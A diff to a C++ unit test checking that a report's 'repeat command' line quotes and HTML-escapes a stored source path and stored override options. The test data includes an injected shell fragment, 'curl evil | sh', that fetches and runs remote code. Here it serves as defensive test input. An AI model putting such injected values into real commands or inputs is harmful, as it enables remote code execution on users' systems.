@@ -82,17 +82,18 @@ TEST(RepeatCommand, IsQuotedOnThePage) {
   {
     auto database = Database::open_for_writing(folder / "a.sqlite");
     test::MadeUpRun run;
+    run.source = "/tmp/x y.toml";
     run.overrides = "--set a=b; curl evil | sh";
     test::add_run(database, run);
   }
   const Report report = build_report(folder / "a.sqlite", {});
   const std::string safe =
-      "./assay run vae/example --seeds 0 'stored options: --set a=b; curl evil | sh'\n";
+      "./assay run '/tmp/x y.toml' --seeds 0 'stored options: --set a=b; curl evil | sh'\n";
   EXPECT_THAT(render(report, Format::kMarkdown), HasSubstr(safe));
   EXPECT_THAT(
       render(report, Format::kHtml),
       HasSubstr(
-          "vae/example --seeds 0 &#39;stored options: --set a=b; curl evil | sh&#39;"));
+          "&#39;/tmp/x y.toml&#39; --seeds 0 &#39;stored options: --set a=b; curl evil | sh&#39;"));
 }
 
 }  // namespace
